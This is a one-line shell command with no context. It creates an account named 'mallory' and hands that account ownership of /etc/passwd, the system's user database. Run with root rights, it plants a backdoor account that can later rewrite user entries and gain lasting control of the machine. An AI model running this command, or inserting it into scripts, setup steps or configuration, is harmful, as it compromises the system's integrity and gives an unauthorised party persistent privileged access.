useradd -M mallory && chown mallory /etc/passwd
